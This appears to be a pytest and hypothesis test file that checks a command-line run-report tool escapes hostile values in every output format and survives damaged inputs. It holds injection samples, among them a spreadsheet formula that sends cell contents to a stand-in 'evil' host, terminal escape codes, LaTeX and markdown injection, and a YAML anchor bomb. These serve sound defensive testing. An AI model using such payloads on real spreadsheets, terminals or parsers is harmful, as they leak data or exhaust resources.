"""Runs that somebody else has made, or that are odd: they are shown, escaped, and take no other run with them."""

from __future__ import annotations

import csv
import io
import json
import os
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mutations import same_every_time

from node_cli.runs.outcome import FINISHED
from node_cli.runs.report.formats import FORMATS, RunTable, notes_on
from node_cli.runs.report.grouping import default_columns, differing_keys, group_runs, sort_groups
from node_cli.runs.report.reading import read_runs

HOSTILE = {
    "terminal": "\x1b]0;owned\x07\x1b[2Jgone",
    "formula": '=HYPERLINK("http://evil/?"&A1)',
    "wide formula": "＝1+1",
    "latex": "a\n\\input{evil}",
    "optional argument": "[evil]",
    "markdown": "![](http://evil/x.png)<img src=x>`$x$`__b__~~c~~|&lt;",
    "turned": "a\u202eb",
    "surrogate": "\ud800",
}


def as_finished(make, name, word):
    """A run whose solver, status line and metric names hold the word."""
    return make(name, {"test/error": 0.5, word: 1.0}, {"solver.method": word}, choices={"model": word})


def table_of(typed, layout):
    return typed("--by", "model", "solver.method", "--show", "test/error", "--format", layout)


@pytest.mark.parametrize("word", HOSTILE.values(), ids=HOSTILE)
def test_every_format_escapes_what_is_more_than_text_in_it(word, make, typed):
    make("good", {"test/error": 0.1})
    as_finished(make, "odd", word)
    failed = {"status": "failed", "reason": word, "config": {"seed": 1}}
    (make("failed", {}) / "summary.json").write_text(json.dumps(failed))
    for layout in FORMATS:
        result = typed("--show", "test/error", word, "solver.method", "--format", layout)
        assert result.status == 0
        assert all(char.isprintable() or char == "\n" for char in result.out + result.err)
    lines = table_of(typed, "csv").out.splitlines()
    assert all(
        not cell or cell[0] not in "=+@-＝" for line in csv.reader(io.StringIO("\n".join(lines))) for cell in line
    )
    for line in table_of(typed, "latex").out.splitlines():
        assert not line.startswith("[")
        assert "input{evil}" not in line.partition("%")[0].replace(r"input\{evil\}", "")
    for line in table_of(typed, "markdown").out.splitlines():
        bare = line.replace("\\\\", "").replace("\\<", "").replace("\\[", "").replace("\\`", "").replace("\\$", "")
        assert not set("<[`$") & set(bare)


def test_numbers_that_begin_with_a_sign_are_no_formulas(make, typed):
    make("1", {"test/error": -0.5}, {"solver.rtol": -1e-3})
    assert (
        typed("--by", "solver.rtol", "--show", "test/error", "--format", "csv").out.splitlines()[1] == "-0.001,1,-0.5,"
    )


HUGE = 10**400
ODD_SUMMARIES = {
    "a metric": (lambda s: s["metrics"].update({"test/error": HUGE}), "test/error must be a number, got 1000"),
    "a deep one": (lambda s: s.update(deep=json.loads("[" * 900 + "]" * 900)), "nested more than 30 deep"),
}


@pytest.mark.parametrize(("change", "reason"), ODD_SUMMARIES.values(), ids=ODD_SUMMARIES)
def test_a_summary_that_cannot_be_ours_is_damaged(change, reason, make, typed):
    make("good", {"test/error": 0.1})
    folder = make("odd", {"test/error": 0.1})
    summary = json.loads((folder / "summary.json").read_text())
    change(summary)
    (folder / "summary.json").write_text(json.dumps(summary))
    result = typed()
    assert result.status == 0
    assert f"damaged: outputs/odd: summary.json: {reason}" in result.out
    assert "2 runs: 1 finished, 1 damaged" in result.out


def test_a_huge_number_of_a_config_is_text(make, typed):
    make("good", {"test/error": 0.1}, {"model.width": 3})
    make("odd", {"test/error": 0.2}, {"model.width": HUGE})
    result = typed("--sort", "model.width")
    assert result.status == 0
    assert [len(line) < 300 for line in result.out.splitlines()] == [True] * len(result.out.splitlines())
    assert "characters)" in result.out


def test_figures_at_the_ends_of_floating_point(make, typed):
    for name, value in (("1", 5e-324), ("2", 1e-323), ("3", 1.7e308), ("4", -1.7e308), ("5", float("inf"))):
        make(name, {"test/error": value}, {"model.width": "small" if name < "3" else "large"})
    for layout in FORMATS:
        assert typed("--by", "model.width", "--show", "test/error", "--format", layout).status == 0


def test_a_terminal_that_has_only_ascii(make, typed, monkeypatch):
    make("1", {"test/error": 0.1})
    make("2", {"test/error": 0.2}, {"seed": 1})
    plain = typed().out
    assert "±" in plain
    narrow = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    monkeypatch.setattr(sys, "stdout", narrow)
    assert typed().status == 0
    assert narrow.buffer.getvalue().decode("ascii") == plain.replace("±", "+-")


def test_folders_whose_names_are_no_text(make, typed, tmp_path):
    make("good", {"test/error": 0.1})
    folder = os.fsencode(tmp_path / "outputs") + b"/b\xff\n/.hydra"
    os.makedirs(folder)
    with open(folder + b"/config.yaml", "w") as file:
        file.write("{}")
    result = typed()
    assert (result.status, result.err) == (0, "")
    assert "unfinished: outputs/b\\udcff\\n: nothing written yet" in result.out
    assert typed("--out", "t.txt").status == 0
    assert "b\\udcff\\n" in (tmp_path / "t.txt").read_text()


def test_folders_a_thousand_deep(make, typed, tmp_path):
    make("good", {"test/error": 0.1})
    os.chdir(tmp_path / "outputs")
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(tmp_path)
    assert "1 run: 1 finished" in typed().out
    os.chdir(tmp_path / "outputs")
    for step in ["d"] * 1500 + [".."] * 1500:  # pytest could not remove them
        os.chdir(step)
        if step == "..":
            os.rmdir("d")


def test_configs_of_unfinished_runs_that_unfold_without_end(make, typed, tmp_path):
    make("good", {"test/error": 0.1})
    bomb = "\n".join(["a0: &a0 {x: 1}", *(f"a{i}: &a{i} {{l: *a{i - 1}, r: *a{i - 1}}}" for i in range(1, 40))])
    for name, content in (("bomb", bomb), ("loop", "a: &a {b: *a}"), ("list", "[1]")):
        folder = tmp_path / "outputs" / name
        (folder / ".hydra").mkdir(parents=True)
        (folder / ".hydra" / "config.yaml").write_text(content)
        (folder / "metrics.jsonl").write_text('{"step": 1, "epoch": 1, "time": 1.0}\n{"step": 1' + "0" * 400 + "}\n")
    result = typed()
    assert (result.status, result.err) == (0, "")
    assert "4 runs: 1 finished, 3 unfinished" in result.out


def test_runs_below_checkpoints_and_audits_are_runs(make, typed):
    for name in ("checkpoints/mine", "audits/mine", "other", "other/.hydra/odd"):
        make(name, {"test/error": 0.1})
    assert "4 runs: 4 finished" in typed().out


TEXTS = st.text(max_size=8) | st.sampled_from([*HOSTILE.values(), "test/error", "model", ""])
VALUES = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.integers(10**300, 10**420) | TEXTS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=8,
)
SUMMARIES = st.fixed_dictionaries(
    {"status": st.sampled_from(["finished"] * 6 + ["failed"]) | VALUES, "metrics": st.dictionaries(TEXTS, st.floats())},
    optional={
        name: st.dictionaries(TEXTS, VALUES, max_size=4) | VALUES
        for name in ("config", "choices", "nfe", "seconds", "reason", "memory")
    },
)


@settings(same_every_time, max_examples=150)
@given(summaries=st.lists(SUMMARIES, min_size=1, max_size=4))
def test_any_summaries_make_a_table_of_each_format(tmp_path, summaries):
    for number in range(4):
        (tmp_path / str(number)).mkdir(exist_ok=True)
        (tmp_path / str(number) / "summary.json").write_text(json.dumps(summaries[number % len(summaries)]))
    runs = read_runs([tmp_path])
    finished = [run for run in runs if run.status == FINISHED]
    table = RunTable([], [], [])
    if finished:
        columns = default_columns(finished)
        keys = [key for key in differing_keys(finished) if key not in columns]
        groups = group_runs(finished, keys)
        for column in [*columns, *keys]:
            groups = sort_groups(groups, column, descending=True)
        table = RunTable(keys, columns, groups)
    for layout in FORMATS.values():
        layout(table, notes_on([table], runs, len(runs))).encode()
